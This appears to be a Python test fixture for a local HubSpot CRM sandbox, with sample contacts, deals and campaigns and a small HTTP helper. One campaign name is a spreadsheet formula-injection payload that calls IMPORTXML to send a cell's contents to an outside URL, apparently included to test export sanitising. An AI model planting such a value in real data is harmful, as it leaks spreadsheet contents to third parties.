"""
A small HubSpot account for the tests, behind a port of this machine, and plain requests to it.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import orjson
import urllib3
from hubspot import HubSpot as Client

from sandbox.app import Sandbox
from sandbox.hubspot import HubSpot

CAMPAIGN = "9f1e6a2c-0000-4000-8000-000000000001"
DRAFT_CAMPAIGN = "9f1e6a2c-0000-4000-8000-000000000002"


def records() -> dict[str, list[dict[str, Any]]]:
    """
    Three contacts, two companies, two deals with a line item, a call, owners, campaigns and e-mails.
    """
    contacts = [
        {
            "id": "101",
            "email": "Ana@Example.com",
            "firstname": "Ana",
            "lastname": "Ruiz",
            "lifecyclestage": "customer",
            "associatedcompanyid": "201",
            "createdate": "2025-01-10T09:00:00Z",
            "lastmodifieddate": "2025-03-01T10:00:00.500Z",
            "hs_v2_date_entered_lead": "2025-01-10T09:00:00Z",
            "hs_analytics_source": "PAID_SEARCH",
            "hs_analytics_first_touch_converting_campaign": "Spring",
            "num_associated_deals": "1",
            "_associations": {"companies": ["201", "202"]},
        },
        {
            "id": "102",
            "email": "bo@example.org",
            "firstname": "Bo",
            "lifecyclestage": "lead",
            "phone": None,
            "createdate": "2025-02-10T09:00:00Z",
            "lastmodifieddate": "2025-02-11T10:00:00Z",
            "hs_merged_object_ids": "90;91",
        },
        {
            "id": "103",
            "email": "cy@example.net",
            "firstname": "Cy",
            "lifecyclestage": "lead",
            "createdate": "2025-03-10T09:00:00Z",
            "lastmodifieddate": "2025-03-11T10:00:00Z",
        },
        {
            "id": "104",
            "email": "gone@example.net",
            "createdate": "2025-03-10T09:00:00Z",
            "lastmodifieddate": "2025-03-11T10:00:00Z",
            "_archived": True,
        },
    ]
    companies = [
        {
            "id": "201",
            "name": "Acme",
            "domain": "acme.example",
            "numberofemployees": "43",
            "industry": "COMPUTER_SOFTWARE",
        },
        {"id": "202", "name": 'O"Hara\nSons', "domain": "ohara.example"},
    ]
    deals = [
        {
            "id": "301",
            "dealname": "First",
            "amount": "1500.00",
            "pipeline": "default",
            "dealstage": "contractsent",
            "closedate": "2025-05-01T00:00:00Z",
            "hs_is_closed": "false",
            "hs_is_closed_won": "false",
            "deal_currency_code": "EUR",
            "createdate": "2025-02-01T08:00:00Z",
            "hs_lastmodifieddate": "2025-02-03T08:00:00Z",
            "_associations": {"companies": ["201"], "contacts": ["101"], "line_items": ["401"]},
            "_history": {
                "dealstage": [
                    {"value": "contractsent", "timestamp": "2025-02-03T08:00:00Z", "sourceType": "CRM_UI"},
                    {"value": "qualifiedtobuy", "timestamp": "2025-02-01T08:00:00Z", "sourceType": "CRM_UI"},
                ]
            },
        },
        {"id": "302", "dealname": "Second", "amount": "20", "pipeline": "default", "dealstage": "closedlost"},
    ]
    emails = [
        {
            "id": "601",
            "name": "News",
            "subject": "Hello",
            "publishDate": "2025-03-05T09:00:00Z",
            "state": "PUBLISHED",
            "campaign": CAMPAIGN,
            "stats": {"selected": 720, "sent": 710, "delivered": 704, "open": 443, "click": 88, "bounce": 6},
        },
        {"id": "602", "name": "Later", "subject": "Soon", "state": "DRAFT", "stats": {}},
    ]
    campaigns = [
        {
            "id": CAMPAIGN,
            "hs_name": "Spring",
            "hs_start_date": "2025-03-01",
            "hs_end_date": "2025-03-31",
            "hs_spend_items_sum_amount": "350.5",
            "hs_budget_items_sum_amount": "500",
            "hs_currency_code": "EUR",
            "_spend_items": [
                {"name": "Ads", "amount": 300.5, "createdAt": "2025-03-02T00:00:00Z"},
                {"name": "Print", "amount": 50, "createdAt": "2025-03-09T00:00:00Z"},
            ],
        },
        {"id": DRAFT_CAMPAIGN, "hs_name": '=IMPORTXML("https://example.com/?"&A1)', "hs_start_date": "2025-04-01"},
    ]
    return {
        "contacts": contacts,
        "companies": companies,
        "deals": deals,
        "line_items": [{"id": "401", "name": "Seat", "hs_mrr": "125", "recurringbillingfrequency": "monthly"}],
        "calls": [
            {
                "id": "501",
                "hs_call_title": "Intro",
                "hs_timestamp": "2025-02-02T08:00:00Z",
                "_associations": {"companies": ["201"]},
            }
        ],
        "owners": [
            {"id": "71", "email": "eva@noria.example", "firstName": "Eva", "lastName": "Gil"},
            {"id": "72", "email": "left@noria.example", "archived": True},
        ],
        "campaigns": campaigns,
        "marketing_emails": emails,
    }


@dataclass
class Portal:
    """
    The running account: the vendor, its official client, and plain requests.
    """

    hubspot: HubSpot
    sandbox: Sandbox
    client: Client
    http: urllib3.PoolManager

    def start_over(self, given: dict[str, list[dict[str, Any]]] | None = None, **options: Any) -> Portal:
        self.hubspot.load(records() if given is None else given, **options)
        self.sandbox.control.reset()
        return self

    def call(self, method: str, path: str, body: Any = None, token: str | None = None) -> Any:
        """
        The raw response to a request, retried by nobody.
        """
        bearer = self.hubspot.access_token if token is None else token
        headers = {"Authorization": f"Bearer {bearer}", "Content-Type": "application/json"}
        data = body if isinstance(body, bytes | None) else orjson.dumps(body)
        return self.http.request(method, self.sandbox.url + path, body=data, headers=headers, retries=False)

    def get(self, path: str) -> Any:
        response = self.call("GET", path)
        assert response.status == 200, response.data
        return response.json()

    def post(self, path: str, body: Any, status: int = 200) -> Any:
        response = self.call("POST", path, body)
        assert response.status == status, response.data
        return response.json() if response.data else None


@contextmanager
def running(given: dict[str, list[dict[str, Any]]] | None = None, **options: Any) -> Iterator[Portal]:
    hubspot = HubSpot(records() if given is None else given, **options)
    with Sandbox([hubspot]) as sandbox, urllib3.PoolManager() as http:
        yield Portal(hubspot, sandbox, Client(access_token=hubspot.access_token, host=sandbox.url), http)
